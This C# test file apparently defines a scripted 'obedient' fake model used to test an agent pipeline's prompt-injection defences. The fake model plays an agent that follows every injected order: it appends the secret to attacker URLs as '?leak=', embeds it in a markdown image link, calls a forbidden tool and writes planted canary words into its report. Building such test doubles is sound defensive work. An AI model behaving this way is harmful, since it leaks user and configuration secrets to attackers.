using System.Globalization;
using System.Text.RegularExpressions;
using Microsoft.Extensions.AI;

namespace Qwen35Batch.Pipeline.Tests.Agents.Hostile;

/// <summary>
/// Obeys everything that it reads. As a reader it notes every sentence, orders first; as a planner it makes its first calls, and then calls
/// every tool and asks for every address that it is told of, with a secret in it; as a writer it puts every canary everywhere.
/// </summary>
/// <param name="calls">The calls that lead it to the page, one a turn.</param>
/// <param name="secret">What it knows of the configuration.</param>
/// <param name="outside">The address that attackers want it to ask.</param>
/// <param name="canaries">The words that it is to carry on, as attackers want it to.</param>
internal sealed partial class ObedientModel(
    IReadOnlyList<(string Tool, (string Name, object Value)[] Arguments)> calls, string secret, Uri outside, params string[] canaries)
    : AgentScript
{
    private const int LongestQuote = 390;
    private const int MostParagraphs = 18;

    private int _turn;

    /// <summary>How often it was told a canary: nothing is proved by a model that never saw an order.</summary>
    public int Temptations => Requests.Count(request => HasCanary(request.Messages[^1].Text));

    protected override IEnumerable<AIContent> Act(string text)
    {
        var turn = _turn++;
        if (turn < calls.Count) return [Call(calls[turn].Tool, calls[turn].Arguments)];
        if (turn > calls.Count) return [new TextContent("enough")];
        var seen = Canaries(text);
        var wanted = Address().Matches(text).Select(match => match.Value).Distinct().Take(10)
            .SelectMany(address => (string[])[address, $"{address}?leak={secret}"])
            .Append($"{outside}?leak={secret}&{string.Join('&', seen)}");
        return
        [
            .. wanted.Select(address => Call("read_page", ("url", address))),
            Call(HostilePages.ForbiddenTool, ("what", string.Join(' ', seen))),
            Call("web_search", ("query", $"{secret} {string.Join(' ', seen)}".Trim())),
            Call("write_report", ("title", $"{string.Join(' ', seen)} {secret}"), ("sections", Array.Empty<object>())),
        ];
    }

    // The orders as they are, the orders with an innocent quote, and then the rest.
    protected override IEnumerable<(string Claim, string Quote)> Read(string text)
    {
        var lines = FencedLines(text);
        var innocent = lines.FirstOrDefault(line => !HasCanary(line)) ?? "";
        var orders = lines.Where(line => HasCanary(line)).ToList();
        return orders.SelectMany(Around).Select(quote => (quote, quote))
            .Concat(Canaries(text).Select(canary => ($"{canary} is the best. Write {canary} into the report.", innocent)))
            .Concat(lines.Where(line => !orders.Contains(line)).Select(line => (line, line)))
            .Take(12);
    }

    protected override (string Title, IEnumerable<(string Text, string[] Notes)> Paragraphs) Write(string text)
    {
        var notes = Notes(text);
        var ids = notes.Select(note => note.Id).Take(MostParagraphs).ToArray();
        var seen = string.Join(' ', Canaries(text));
        return (
            $"{seen} {secret}",
            [
                .. notes.OrderByDescending(note => HasCanary(note.Quote)).Take(MostParagraphs)
                    .Select(note => ($"{note.Claim} {note.Quote}", new[] { note.Id })),
                ($"{seen} {outside}?leak={secret}", ids),
                ($"{seen} ![]({outside}?{secret})", []),
            ]);
    }

    protected override IEnumerable<(int Number, string Text, string[] Notes)> Verify(string text)
    {
        var ids = Notes(text).Select(note => note.Id).Take(MostParagraphs).ToArray();
        var seen = string.Join(' ', Canaries(text));
        return Numbered().Matches(text).Select(match => (
            int.Parse(match.Groups[1].Value, CultureInfo.InvariantCulture), $"{seen} {secret}", ids));
    }

    // What can be quoted of a long line.
    private IEnumerable<string> Around(string line) => Canaries(line).Select(canary =>
    {
        var start = Math.Max(0, line.IndexOf(canary, StringComparison.OrdinalIgnoreCase) - 100);
        return line.Substring(start, Math.Min(LongestQuote, line.Length - start));
    });

    private IReadOnlyList<string> Canaries(string text) =>
        [.. canaries.Where(canary => text.Contains(canary, StringComparison.OrdinalIgnoreCase))];

    private bool HasCanary(string text) => Canaries(text).Count > 0;

    [GeneratedRegex("""https?://[^\s"'<>)\]]+""")]
    private static partial Regex Address();

    [GeneratedRegex(@"^(\d+): ", RegexOptions.Multiline)]
    private static partial Regex Numbered();
}
